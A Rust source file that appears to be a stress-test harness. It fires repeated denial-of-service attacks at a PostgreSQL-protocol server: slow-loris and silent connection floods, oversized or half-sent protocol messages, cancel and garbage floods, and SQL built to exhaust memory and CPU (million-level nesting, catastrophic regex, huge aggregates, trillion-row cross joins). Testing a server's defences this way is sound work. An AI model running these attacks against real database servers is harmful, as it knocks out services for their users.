//! The attacks: each is a number of clients that do the same harm again and again.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio_postgres::NoTls;

/// How many connections those attacks make that are about their number.
pub const CONNECTIONS: usize = 10_000;

pub struct Attack {
    pub name: &'static str,
    pub what: &'static str,
    clients: usize,
    harm: Harm,
}

#[derive(Clone, Copy)]
enum Harm {
    /// A startup packet, a byte a second.
    SlowLoris,
    /// Connections that say nothing, all at once.
    Silent,
    /// A startup packet that is announced to have a gigabyte.
    HugeStartup,
    /// A statement that is announced to have a gigabyte, by a client that is let in.
    HugeMessage,
    /// All but the last byte of the longest message, by a client that is let in, which then waits.
    HalfSent,
    /// Cancel requests with keys that are made up.
    Cancel,
    /// Bytes that are no protocol.
    Garbage,
    /// Clients that come, are let in and go.
    Reconnect,
    /// A client that asks for rows without end and reads none.
    NeverReads,
    /// Statements without end that are prepared and kept.
    Prepares,
    /// A statement over and over.
    Statement(fn() -> String),
}

const fn statement(name: &'static str, what: &'static str, text: fn() -> String) -> Attack {
    Attack { name, what, clients: 4, harm: Harm::Statement(text) }
}

pub const ATTACKS: &[Attack] = &[
    Attack { name: "slow-loris", what: "2,000 startup packets, a byte a second", clients: 2_000, harm: Harm::SlowLoris },
    Attack { name: "silent", what: "10,000 connections that say nothing", clients: CONNECTIONS, harm: Harm::Silent },
    Attack { name: "huge-startup", what: "startup packets of a gigabyte", clients: 50, harm: Harm::HugeStartup },
    Attack { name: "huge-message", what: "statements of a gigabyte", clients: 50, harm: Harm::HugeMessage },
    Attack { name: "half-sent", what: "300 messages of 16 MiB but for the last byte", clients: 300, harm: Harm::HalfSent },
    Attack { name: "cancel-flood", what: "cancel requests with made-up keys", clients: 8, harm: Harm::Cancel },
    Attack { name: "garbage", what: "bytes that are no protocol", clients: 8, harm: Harm::Garbage },
    Attack { name: "reconnect", what: "clients that come and go", clients: 8, harm: Harm::Reconnect },
    Attack { name: "never-reads", what: "200 results without end that are not read", clients: 200, harm: Harm::NeverReads },
    Attack { name: "prepares", what: "prepared statements without end", clients: 4, harm: Harm::Prepares },
    statement("nesting", "a million parentheses", || format!("SELECT {}1{}", "(".repeat(1_000_000), ")".repeat(1_000_000))),
    statement("negations", "a million negations", || format!("SELECT {}true", "NOT ".repeat(1_000_000))),
    statement("json-nesting", "a million brackets of JSON", || format!("SELECT '{}'::jsonb", "[".repeat(1_000_000))),
    statement("regex", "back references over a long text", || {
        r"SELECT repeat('a', 100000) ~ '(.*)(.*)(.*)(.*)(.*)x\1\2'".to_owned()
    }),
    statement("regex-counts", "counts within counts", || "SELECT 'x' ~ '((a{1,200}){1,200}){1,200}'".to_owned()),
    statement("in-list", "IN with two million numbers", || format!("SELECT 1 IN ({})", list(2_000_000, |at| at.to_string()))),
    statement("values", "VALUES with a million rows", || format!("SELECT count(*) FROM (VALUES {}) v", list(1_000_000, |at| format!("({at})")))),
    statement("ors", "OR with a hundred thousand arms", || format!("SELECT 1 WHERE {}", "1 = 2 OR ".repeat(100_000) + "true")),
    statement("repeat", "texts of a gigabyte", || "SELECT length(repeat('x', 1000000000))".to_owned()),
    statement("string-agg", "an aggregate of five gigabytes", || {
        "SELECT length(string_agg(repeat('x', 1000000), ',')) FROM generate_series(1, 5000)".to_owned()
    }),
    statement("array-agg", "an array of ten gigabytes", || {
        "SELECT array_length(array_agg(repeat('x', 100000)), 1) FROM generate_series(1, 100000)".to_owned()
    }),
    statement("array-fill", "an array of 134 million numbers", || {
        "SELECT array_length(array_fill(1, ARRAY[134217727]), 1)".to_owned()
    }),
    statement("series-texts", "a sort of ten gigabytes", || {
        "SELECT count(*) FROM (SELECT repeat('x', 1000000) || g FROM generate_series(1, 10000) g ORDER BY 1) t".to_owned()
    }),
    statement("hash-join", "a join of two series of 30 million", || {
        "SELECT count(*) FROM generate_series(1, 30000000) a JOIN generate_series(1, 30000000) b ON a = b".to_owned()
    }),
    statement("recursion", "a text that doubles", || {
        "WITH RECURSIVE r AS (SELECT 'x'::text t UNION ALL SELECT t || t FROM r) SELECT max(length(t)) FROM r".to_owned()
    }),
    statement("cross-join", "a count of 10^12 rows", || {
        "SELECT count(*) FROM generate_series(1, 1000000) a, generate_series(1, 1000000) b".to_owned()
    }),
];

fn list(count: usize, item: impl Fn(usize) -> String) -> String {
    (0..count).map(item).collect::<Vec<_>>().join(",")
}

/// Attacks until `stop`, and counts in `done` how often.
pub fn run(attack: &Attack, address: SocketAddr, stop: &AtomicBool, done: &AtomicU64) {
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build();
    let Ok(runtime) = runtime else { return };
    let text: &str = match attack.harm {
        Harm::Statement(text) => text().leak(),
        _ => "",
    };
    runtime.block_on(async {
        let clients: Vec<_> = (0..attack.clients)
            .map(|_| {
                let harm = attack.harm;
                let (sender, receiver) = tokio::sync::mpsc::unbounded_channel::<()>();
                (tokio::spawn(async move { attacker(harm, address, text, &sender).await }), receiver)
            })
            .collect();
        let (tasks, mut counts): (Vec<_>, Vec<_>) = clients.into_iter().unzip();
        while !stop.load(Ordering::Relaxed) {
            tokio::time::sleep(Duration::from_millis(50)).await;
            let count: usize = counts.iter_mut().map(|count| std::iter::from_fn(|| count.try_recv().ok()).count()).sum();
            done.fetch_add(count as u64, Ordering::Relaxed);
        }
        tasks.iter().for_each(tokio::task::JoinHandle::abort);
    });
    runtime.shutdown_timeout(Duration::from_secs(1));
}

/// One attacker. What it is refused does not stop it.
async fn attacker(harm: Harm, address: SocketAddr, text: &'static str, done: &tokio::sync::mpsc::UnboundedSender<()>) {
    loop {
        let outcome = match harm {
            Harm::Statement(_) => statements(address, text, done).await,
            harm => once(harm, address, done).await,
        };
        if done.send(()).is_err() {
            return;
        }
        if outcome.is_none() {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }
}

async fn statements(address: SocketAddr, text: &str, done: &tokio::sync::mpsc::UnboundedSender<()>) -> Option<()> {
    let to = format!("host={} port={} user=postgres dbname=postgres", address.ip(), address.port());
    let (client, connection) = tokio_postgres::connect(&to, NoTls).await.ok()?;
    let serving = tokio::spawn(connection);
    while !client.is_closed() {
        // What it fails with is the node's defence.
        let _refused = client.simple_query(text).await;
        if done.send(()).is_err() {
            break;
        }
    }
    serving.abort();
    Some(())
}

fn startup() -> Vec<u8> {
    let mut body = (3_i32 << 16).to_be_bytes().to_vec();
    body.extend_from_slice(b"user\0postgres\0database\0postgres\0\0");
    let mut packet = (body.len() as i32 + 4).to_be_bytes().to_vec();
    packet.extend_from_slice(&body);
    packet
}

fn message(kind: u8, body: &[u8]) -> Vec<u8> {
    let mut bytes = vec![kind];
    bytes.extend_from_slice(&(body.len() as i32 + 4).to_be_bytes());
    bytes.extend_from_slice(body);
    bytes
}

/// Reads until the other side ends it.
async fn until_closed(stream: &mut TcpStream) {
    let mut buffer = [0; 4096];
    while stream.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
}

/// A client that was let in.
async fn let_in(address: SocketAddr) -> Option<TcpStream> {
    let mut stream = TcpStream::connect(address).await.ok()?;
    stream.write_all(&startup()).await.ok()?;
    let mut seen = Vec::new();
    while !seen.ends_with(b"Z\0\0\0\x05I") {
        let mut buffer = [0; 1024];
        match stream.read(&mut buffer).await.ok()? {
            0 => return None,
            read => seen.extend_from_slice(&buffer[..read]),
        }
    }
    Some(stream)
}

async fn once(harm: Harm, address: SocketAddr, done: &tokio::sync::mpsc::UnboundedSender<()>) -> Option<()> {
    match harm {
        Harm::SlowLoris => {
            let mut stream = TcpStream::connect(address).await.ok()?;
            for byte in startup() {
                stream.write_all(&[byte]).await.ok()?;
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
        }
        Harm::Silent => {
            let mut stream = TcpStream::connect(address).await.ok()?;
            until_closed(&mut stream).await;
        }
        Harm::HugeStartup => {
            let mut stream = TcpStream::connect(address).await.ok()?;
            stream.write_all(&(1_i32 << 30).to_be_bytes()).await.ok()?;
            let junk = [b'x'; 64 << 10];
            while stream.write_all(&junk).await.is_ok() {}
        }
        Harm::HugeMessage => {
            let mut stream = let_in(address).await?;
            stream.write_all(b"Q").await.ok()?;
            stream.write_all(&(1_i32 << 30).to_be_bytes()).await.ok()?;
            let junk = [b'x'; 64 << 10];
            while stream.write_all(&junk).await.is_ok() {}
        }
        Harm::HalfSent => {
            let mut stream = let_in(address).await?;
            let bytes = message(b'Q', &vec![b'x'; (16 << 20) - 4]);
            stream.write_all(&bytes[..bytes.len() - 1]).await.ok()?;
            until_closed(&mut stream).await;
        }
        Harm::Cancel => {
            let mut stream = TcpStream::connect(address).await.ok()?;
            let packet = [16_i32, 80_877_102, 1, rand::random()].map(i32::to_be_bytes).concat();
            stream.write_all(&packet).await.ok()?;
            until_closed(&mut stream).await;
        }
        Harm::Garbage => {
            let mut stream = TcpStream::connect(address).await.ok()?;
            let bytes: Vec<u8> = (0..2048).map(|_| rand::random()).collect();
            stream.write_all(&bytes).await.ok()?;
            until_closed(&mut stream).await;
        }
        Harm::Reconnect => {
            let mut stream = let_in(address).await?;
            stream.write_all(&message(b'X', b"")).await.ok()?;
            until_closed(&mut stream).await;
        }
        Harm::NeverReads => {
            let mut stream = let_in(address).await?;
            let text = b"SELECT repeat('x', 10000) FROM generate_series(1, 1000000000)\0";
            stream.write_all(&message(b'Q', text)).await.ok()?;
            std::future::pending::<()>().await;
        }
        Harm::Prepares => {
            let mut stream = let_in(address).await?;
            let (mut reader, mut writer) = stream.split();
            let reading = async {
                let mut buffer = [0; 4096];
                while reader.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
            };
            let writing = async {
                for number in 0_u64.. {
                    let mut body = format!("s{number}\0SELECT {number}, $1::text, '{}'\0", "x".repeat(1000)).into_bytes();
                    body.extend_from_slice(&[0, 0]);
                    let bytes = [message(b'P', &body), message(b'S', b"")].concat();
                    if writer.write_all(&bytes).await.is_err() || done.send(()).is_err() {
                        return;
                    }
                }
            };
            tokio::select! {
                () = reading => {}
                () = writing => {}
            }
        }
        Harm::Statement(_) => {}
    }
    Some(())
}
